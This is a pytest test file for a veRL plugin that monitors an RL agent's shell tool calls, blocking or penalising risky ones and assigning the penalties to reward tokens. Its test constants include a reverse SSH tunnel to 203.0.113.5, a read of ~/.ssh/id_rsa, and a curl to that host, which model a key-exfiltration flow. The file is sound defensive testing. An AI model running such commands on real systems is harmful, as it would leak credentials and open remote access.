"""rewardguard.verl against the real veRL (0.9), on the CPU.

The tool side goes through veRL's own tool construction
(``initialize_tools_from_config``) and its agent loop's tool-call code
(``ToolAgentLoop._call_tool``: create, the awaited execute, release) with
veRL's ``AgentData``; the reward side through veRL's ``RewardLoopWorker``
(the naive scoring, gsm8k's rule) and the reward manager's
``assemble_rm_scores`` on a ``DataProto`` batch laid out as the agent loop
builds it. Expected penalties come from a separate ``rg.Guard``.
"""

import asyncio
import json
import os
import subprocess
import sys
import textwrap
import tomllib
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
import torch
from omegaconf import OmegaConf
from tokenizers import Tokenizer, models, pre_tokenizers
from transformers import PreTrainedTokenizerFast
from verl import DataProto
from verl.experimental.agent_loop.tool_agent_loop import AgentData, ToolAgentLoop
from verl.experimental.agent_loop.tool_parser import FunctionCall
from verl.experimental.reward_loop.reward_loop import RewardLoopWorker
from verl.tools.schemas import OpenAIFunctionToolSchema
from verl.tools.tool_registry import initialize_tools_from_config
from verl.trainer.ppo.reward import resolve_reward_manager_cls

import rewardguard as rg
from rewardguard import verl as rgv

ROOT = Path(__file__).resolve().parents[2]

TOOL_MODULE = '''
from verl.tools.base_tool import BaseTool
from verl.tools.schemas import ToolResponse

RAN = []

class EchoShell(BaseTool):
    """Runs nothing: answers with the command, so the test sees what ran."""

    async def execute(self, instance_id, parameters, **kwargs):
        RAN.append(parameters["command"])
        return ToolResponse(text="ran: " + parameters["command"]), 0.5, {"echo": 1}
'''

TOOLS_YAML = '''
tools:
  - class_name: rewardguard.verl.GuardedTool
    config:
      type: native
      policy: coding-sandbox
      mode: {mode}
      tool: {{class_name: rg_verl_tools.EchoShell, config: {{type: native}}}}
    tool_schema:
      type: function
      function:
        name: shell
        description: run a shell command
        parameters:
          type: object
          properties: {{command: {{type: string}}}}
          required: [command]
'''

TUNNEL = "ssh -R 9000:localhost:22 a@203.0.113.5"
SECRET = "cat ~/.ssh/id_rsa"
CURL = "curl https://203.0.113.5/x"


@pytest.fixture
def tool_module(tmp_path, monkeypatch):
    (tmp_path / "rg_verl_tools.py").write_text(TOOL_MODULE)
    monkeypatch.syspath_prepend(str(tmp_path))
    import rg_verl_tools

    rg_verl_tools.RAN.clear()
    return rg_verl_tools


def make_tool(tmp_path, mode="enforce"):
    path = tmp_path / f"tools-{mode}.yaml"
    path.write_text(TOOLS_YAML.format(mode=mode))
    (tool,) = initialize_tools_from_config(str(path))
    return tool


def agent_data():
    return AgentData(messages=[], image_data=None, video_data=None, audio_data=None,
                     mm_processor_kwargs=None, metrics={}, request_id="r", tools_kwargs={})


def call(tool, data, command, model_tokens=4, tool_tokens=3):
    """One turn: the model writes `model_tokens` tokens ending in a call, veRL runs it."""
    loop = SimpleNamespace(tools={tool.name: tool}, max_tool_response_length=4096,
                           tool_response_truncate_side="middle")
    data.response_mask += [1] * model_tokens
    out = asyncio.run(ToolAgentLoop._call_tool(
        loop, FunctionCall(name=tool.name, arguments=json.dumps({"command": command})), {}, data))
    data.response_mask += [0] * tool_tokens
    data.tool_rewards.append(out[1])
    return out


def reference_penalties(commands, mode="enforce"):
    """Each call's penalty when the commands are one episode, by a separate Guard."""
    guard = rg.Guard("coding-sandbox", 1, mode=mode)
    v = guard.evaluate([(0, "shell", json.dumps({"command": c}, separators=(",", ":"), sort_keys=True))
                        for c in commands])
    return v.call_penalties.astype(np.float64).tolist(), v


def test_denied_call_never_runs_and_costs(tmp_path, tool_module):
    tool = make_tool(tmp_path)
    assert isinstance(tool, rgv.GuardedTool) and tool.name == "shell"
    data = agent_data()
    allowed = call(tool, data, "ls -la")
    denied = call(tool, data, TUNNEL)
    assert tool_module.RAN == ["ls -la"]                   # the tunnel never ran
    assert allowed[0].text == "ran: ls -la" and allowed[1] == 0.5
    assert allowed[2]["rewardguard"]["action"] == "allow"
    text = denied[0].text
    assert text.startswith("rewardguard denied this call (terminate:") and "tunnel" in text
    assert "reverse tunnel" in text                        # the model reads why
    penalties, _ = reference_penalties(["ls -la", TUNNEL])
    assert penalties[1] > 0
    assert denied[1] == pytest.approx(-penalties[1])
    assert data.tool_rewards == [0.5, pytest.approx(-penalties[1])]
    # Each call recorded where it closed: the last model token of its turn.
    calls = data.extra_fields[rgv.CALLS_KEY]
    assert [(c["tool"], json.loads(c["arguments"])["command"], c["token"]) for c in calls] == [
        ("shell", "ls -la", 3), ("shell", TUNNEL, 10)]
    assert [c["action"] for c in calls] == ["allow", "terminate"]


def test_episode_state_follows_the_trajectory(tmp_path, tool_module):
    # Shadow mode: nothing is blocked, so the secret read counts for the flow.
    tool = make_tool(tmp_path, mode="shadow")
    a, b = agent_data(), agent_data()
    call(tool, a, SECRET)
    after_secret = call(tool, a, CURL)
    elsewhere = call(tool, b, CURL)                      # another trajectory: no secret read there
    assert tool_module.RAN == [SECRET, CURL, CURL]
    same_episode, _ = reference_penalties([SECRET, CURL], mode="shadow")
    fresh, _ = reference_penalties([CURL], mode="shadow")
    assert same_episode[1] > fresh[0]                    # the exfiltration flow fired
    assert after_secret[1] == pytest.approx(0.5 - same_episode[1])
    assert elsewhere[1] == pytest.approx(0.5 - fresh[0])
    assert "exfiltration" in after_secret[2]["rewardguard"]["rules"]


def test_unjudgeable_call_is_denied(tmp_path, tool_module):
    tool = make_tool(tmp_path)
    out = asyncio.run(tool.execute("i", {"command": object()}, agent_data=agent_data()))
    assert out[0].text.startswith("rewardguard denied this call: the call could not be judged")
    assert tool_module.RAN == []


def test_terminated_trajectory_refuses_every_later_call(tmp_path, tool_module):
    tool = make_tool(tmp_path)
    data, other = agent_data(), agent_data()
    ended = call(tool, data, TUNNEL)
    assert ended[2]["rewardguard"]["action"] == "terminate"
    later = [call(tool, data, c) for c in ("ls -la", CURL)]
    assert tool_module.RAN == []                           # nothing after the terminate ran
    for out in later:
        assert out[0].text.startswith("rewardguard denied this call: the trajectory was ended by policy")
        assert "reverse tunnel" in out[0].text and out[1] <= 0.0
    calls = data.extra_fields[rgv.CALLS_KEY]
    assert [c.get("refused", False) for c in calls] == [False, True, True]
    assert [c["penalty"] for c in calls[1:]] == [0.0, 0.0]  # refused, not judged: no second charge
    assert call(tool, other, "ls -la")[0].text == "ran: ls -la"   # other trajectories go on


def test_slots_are_reused_when_trajectories_end():
    guard = rgv.TrajectoryGuard("coding-sandbox", num_trajectories=2)
    a, b = agent_data(), agent_data()
    _, env_a = guard.judge(a, "shell", "ls")
    _, env_b = guard.judge(b, "shell", "ls")
    assert env_a != env_b and guard.judge(a, "shell", "ls")[1] == env_a
    del a                                                # the trajectory ended: its slot is free
    c = agent_data()
    assert guard.judge(c, "shell", "ls")[1] == env_a
    d = agent_data()                                     # all held by live trajectories: d is refused
    with pytest.raises(RuntimeError, match="all 2 trajectory slots .* Raise num_trajectories"):
        guard.judge(d, "shell", "ls")
    assert guard.judge(b, "shell", "ls")[1] == env_b     # b keeps its slot
    del c
    assert guard.judge(d, "shell", "ls")[1] == env_a     # d gets the freed one


def test_full_guard_denies_new_trajectories_and_keeps_live_episodes(tool_module):
    # One slot, shadow mode: a's secret read must still count when a later
    # trajectory arrives (no live episode is reset to make room).
    guard = rgv.TrajectoryGuard("coding-sandbox", num_trajectories=1, mode="shadow")
    tool = rgv.GuardedTool.wrap(echo_tool("shell"), guard)
    a, b = agent_data(), agent_data()
    call(tool, a, SECRET)
    refused = call(tool, b, "ls -la")
    assert refused[0].text.startswith("rewardguard denied this call: the call could not be judged")
    assert "trajectory slots" in refused[0].text and "num_trajectories" in refused[0].text
    after_secret = call(tool, a, CURL)
    assert tool_module.RAN == [SECRET, CURL]
    assert "exfiltration" in after_secret[2]["rewardguard"]["rules"]


def echo_tool(name):
    import rg_verl_tools

    schema = {"type": "function", "function": {
        "name": name, "description": "run a shell command",
        "parameters": {"type": "object", "properties": {"command": {"type": "string"}},
                       "required": ["command"]}}}
    return rg_verl_tools.EchoShell({"type": "native"}, OpenAIFunctionToolSchema.model_validate(schema))


def test_tools_naming_one_policy_share_the_trajectory(tmp_path, tool_module):
    # A secret read through the configured `shell`, the egress through a
    # separately wrapped `bash`: one trajectory, one episode, the flow fires.
    shell = make_tool(tmp_path, mode="shadow")
    bash = rgv.GuardedTool.wrap(echo_tool("bash"), "coding-sandbox", mode="shadow")
    other = rgv.GuardedTool.wrap(echo_tool("bash"), rg.Policy.load("coding-sandbox"), mode="shadow")
    assert bash.guard is shell.guard is other.guard
    assert rgv.GuardedTool.wrap(echo_tool("bash")).guard is not shell.guard   # enforce: another one
    data = agent_data()
    call(shell, data, SECRET)
    out = call(bash, data, CURL)
    assert tool_module.RAN == [SECRET, CURL]
    assert "exfiltration" in out[2]["rewardguard"]["rules"]
    same_episode, _ = reference_penalties([SECRET, CURL], mode="shadow")
    assert out[1] == pytest.approx(0.5 - same_episode[1])


# -- reward side ---------------------------------------------------------------

VOCAB = ["[PAD]", "[EOS]", "####", "42", "7", "the", "answer", "is", "run", "shell", "ok", "q"]
P, T = 4, 24  # prompt and response lengths of the batch


@pytest.fixture(scope="module")
def tokenizer_dir(tmp_path_factory):
    t = Tokenizer(models.WordLevel({w: i for i, w in enumerate(VOCAB)}, unk_token="[PAD]"))
    t.pre_tokenizer = pre_tokenizers.WhitespaceSplit()
    tok = PreTrainedTokenizerFast(tokenizer_object=t, pad_token="[PAD]", eos_token="[EOS]")
    path = tmp_path_factory.mktemp("tokenizer")
    tok.save_pretrained(path)
    return str(path)


def reward_config(tokenizer_dir, custom=None):
    return OmegaConf.create({
        "actor_rollout_ref": {"model": {"path": tokenizer_dir, "tokenizer_path": tokenizer_dir}},
        "reward": {
            "reward_manager": {"name": "rewardguard", "source": "register",
                               "module": {"path": None, "name": None}},
            "custom_reward_function": {"path": custom and "pkg://rewardguard.verl",
                                       "name": custom, "reward_kwargs": {}},
            "reward_model": {"enable": False, "enable_resource_pool": False, "model_path": None},
            "sandbox_fusion": None,
            "num_workers": 1,
        },
    })


SCRIPTS = ((["ls -la", TUNNEL], "42"), ([CURL], "7"), ([], "42"))


def trajectories(tmp_path, mode="enforce", scripts=SCRIPTS):
    """Rollouts through the guarded tool (default: three): (calls' commands, extra_fields, response tokens)."""
    tool = make_tool(tmp_path, mode)
    ids = {w: i for i, w in enumerate(VOCAB)}
    out = []
    for commands, answer in scripts:
        data = agent_data()
        tokens = []
        for c in commands:
            call(tool, data, c)
            tokens += [ids["run"]] * 3 + [ids["shell"]] + [ids["ok"]] * 3  # 4 model + 3 tool tokens
        final = ["the", "answer", "is", "####", answer, "[EOS]"]
        data.response_mask += [1] * len(final)
        tokens += [ids[w] for w in final]
        out.append((commands, data.extra_fields, tokens))
    return out


def batch(rollouts, *, per_sample=False):
    """A DataProto as veRL's agent loop lays it out (left-padded prompts, right-padded responses)."""
    n = len(rollouts)
    prompts = torch.zeros(n, P, dtype=torch.int64)
    responses = torch.zeros(n, T, dtype=torch.int64)
    attention = torch.zeros(n, P + T, dtype=torch.int64)
    for b, (_, _, tokens) in enumerate(rollouts):
        prompts[b, 1:] = VOCAB.index("q")
        attention[b, 1:P] = 1
        responses[b, : len(tokens)] = torch.tensor(tokens)
        attention[b, P: P + len(tokens)] = 1
    non_tensor = {
        "data_source": np.array(["openai/gsm8k"] * n, dtype=object),
        "reward_model": np.array([{"ground_truth": "42"} for _ in range(n)], dtype=object),
    }
    extra = np.empty(n, dtype=object)
    extra[:] = [e for _, e, _ in rollouts]
    if per_sample:  # how the agent loop scores one trajectory
        non_tensor["tool_extra_fields"] = extra
    else:           # the rollout batch: each extra field is a column
        calls = np.empty(n, dtype=object)
        calls[:] = [e.get(rgv.CALLS_KEY) for e in extra]
        non_tensor[rgv.CALLS_KEY] = calls
    return DataProto.from_dict(
        tensors={"prompts": prompts, "responses": responses, "attention_mask": attention,
                 "input_ids": torch.cat([prompts, responses], dim=1),
                 "response_mask": attention[:, P:].clone()},
        non_tensors=non_tensor)


def expected_scores(rollouts):
    """rm_scores [B, T] by hand: the task score on the last token, each penalty on its call's token."""
    tasks = [1.0, 0.0, 1.0]
    out = torch.zeros(len(rollouts), T)
    nets = []
    for b, (commands, extra, tokens) in enumerate(rollouts):
        out[b, len(tokens) - 1] += tasks[b]
        penalties = reference_penalties(commands)[0] if commands else []
        for c, p in zip(extra.get(rgv.CALLS_KEY, []), penalties):
            out[b, c["token"]] -= p
        nets.append(tasks[b] - sum(penalties))
    return out, nets


def run_worker(config, data, *, single=False):
    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    try:
        worker = RewardLoopWorker(config)
        if single:
            return loop.run_until_complete(worker.compute_score(data))
        return loop.run_until_complete(worker.compute_score_batch(data))
    finally:
        asyncio.set_event_loop(None)
        loop.close()


@pytest.mark.parametrize("custom", [None, "compute_score"])
def test_reward_manager_puts_penalties_on_call_tokens(tmp_path, tool_module, tokenizer_dir, custom):
    rollouts = trajectories(tmp_path)
    data = batch(rollouts)
    config = reward_config(tokenizer_dir, custom)
    manager_cls = resolve_reward_manager_cls(config)
    assert manager_cls is rgv.RewardGuardRewardManager
    outputs = run_worker(config, data)
    expected, nets = expected_scores(rollouts)
    scores = [o["reward_score"] for o in outputs]
    assert scores == pytest.approx(nets)
    assert [o["reward_extra_info"]["rewardguard_penalty"] for o in outputs] == pytest.approx(
        [1.0 - nets[0], 0.0 - nets[1], 0.0])
    if custom:  # the guarded compute_score charged it; the manager did not charge twice
        assert [o["reward_extra_info"]["task_score"] for o in outputs] == [1.0, 0.0, 1.0]
    rm_scores = manager_cls.assemble_rm_scores(data, scores)   # as RewardLoopManager does
    torch.testing.assert_close(rm_scores, expected)
    assert rm_scores[0, 10] < 0 and rm_scores[0, 3] == 0      # the tunnel's token; ls cost nothing


def test_agent_loop_scoring_charges_the_sample(tmp_path, tool_module, tokenizer_dir):
    # Scored inside the agent loop, one trajectory at a time: veRL puts this
    # one score on the last token, so it holds the penalty.
    rollouts = trajectories(tmp_path)
    _, nets = expected_scores(rollouts)
    for b in range(len(rollouts)):
        out = run_worker(reward_config(tokenizer_dir), batch(rollouts[b: b + 1], per_sample=True),
                         single=True)
        assert out["reward_score"] == pytest.approx(nets[b])


def test_truncated_call_lands_on_the_last_kept_token(tmp_path, tool_module):
    commands, extra, tokens = trajectories(tmp_path)[0]
    past_the_end = {rgv.CALLS_KEY: [dict(c, token=c["token"] + T) for c in extra[rgv.CALLS_KEY]]}
    data = batch([(commands, past_the_end, tokens)])
    net = 1.0 - sum(reference_penalties(commands)[0])
    rm = rgv.RewardGuardRewardManager.assemble_rm_scores(data, [net])
    expected = torch.zeros(1, T)
    expected[0, len(tokens) - 1] = net
    torch.testing.assert_close(rm, expected)


def test_guarded_compute_score_wraps_any_score():
    fn = rgv.guarded_compute_score(lambda **kw: {"score": 2.0, "acc": True})
    calls = [{"tool": "shell", "arguments": json.dumps({"command": TUNNEL}), "token": 5, "penalty": 3.5},
             {"tool": "shell", "arguments": json.dumps({"command": "ls"}), "token": 9, "penalty": 0.25}]
    out = fn(data_source="x", solution_str="", ground_truth="", extra_info={rgv.CALLS_KEY: calls})
    assert out == {"score": pytest.approx(2.0 - 3.75), "task_score": 2.0, "acc": True,
                   "rewardguard_penalty": pytest.approx(3.75)}
    assert fn(data_source="x", solution_str="", ground_truth="", extra_info={})["score"] == 2.0


def test_a_record_without_its_penalty_is_an_error():
    fn = rgv.guarded_compute_score(lambda **kw: 1.0)
    calls = [{"tool": "shell", "arguments": json.dumps({"command": TUNNEL}), "token": 5}]
    with pytest.raises(ValueError, match="without the penalty the tool side charged"):
        fn(data_source="x", solution_str="", ground_truth="", extra_info={rgv.CALLS_KEY: calls})


@pytest.mark.parametrize("custom", [None, "compute_score"])
def test_reward_side_charges_what_the_shadow_tools_charged(tmp_path, tool_module, tokenizer_dir, custom):
    # Shadow-mode tools: the secret read runs, so the curl after it is an
    # exfiltration flow; the reward side charges that, not what an
    # enforce-mode judgement of its own would (the read blocked, no flow).
    rollouts = trajectories(tmp_path, mode="shadow",
                            scripts=(([SECRET, CURL], "42"), ([CURL], "7"), ([], "42")))
    data = batch(rollouts)
    outputs = run_worker(reward_config(tokenizer_dir, custom), data)
    tool_side = [sum(c["penalty"] for c in extra.get(rgv.CALLS_KEY, [])) for _, extra, _ in rollouts]
    shadow = [sum(reference_penalties(commands, mode="shadow")[0]) for commands, _, _ in rollouts]
    enforce = [sum(reference_penalties(commands)[0]) for commands, _, _ in rollouts]
    assert tool_side == pytest.approx(shadow) and shadow[0] != pytest.approx(enforce[0])
    assert [o["reward_extra_info"]["rewardguard_penalty"] for o in outputs] == pytest.approx(tool_side)
    assert [o["reward_score"] for o in outputs] == pytest.approx(
        [t - p for t, p in zip([1.0, 0.0, 1.0], tool_side)])
    rm = rgv.RewardGuardRewardManager.assemble_rm_scores(data, [o["reward_score"] for o in outputs])
    assert rm.sum(dim=1).tolist() == pytest.approx([o["reward_score"] for o in outputs], abs=1e-5)
    for b, (_, extra, _) in enumerate(rollouts):
        for c in extra.get(rgv.CALLS_KEY, []):
            assert rm[b, c["token"]] == pytest.approx(-c["penalty"], abs=1e-5)


def test_import_verl_loads_the_plugin(tmp_path):
    """veRL loads every `verl.plugins` entry point on import; ours registers the manager."""
    entry = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["entry-points"]["verl.plugins"]
    assert entry == {"rewardguard": "rewardguard.verl"}
    # The package's metadata as an install writes it (this checkout is not installed).
    dist = tmp_path / "rewardguard_plugin-0.1.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: rewardguard-plugin\nVersion: 0.1.0\n")
    (dist / "entry_points.txt").write_text(
        "[verl.plugins]\n" + "".join(f"{k} = {v}\n" for k, v in entry.items()))
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(tmp_path), *sys.path]))
    env.pop("VERL_USE_EXTERNAL_PLUGINS", None)
    code = textwrap.dedent("""
        import sys
        import verl
        assert "rewardguard.verl" in sys.modules, "the plugin was not loaded"
        from verl.experimental.reward_loop.reward_manager import get_reward_manager_cls
        print(get_reward_manager_cls("rewardguard").__qualname__)
    """)
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True,
                         timeout=120)
    assert out.returncode == 0, out.stderr[-2000:]
    assert out.stdout.strip().endswith("RewardGuardRewardManager")
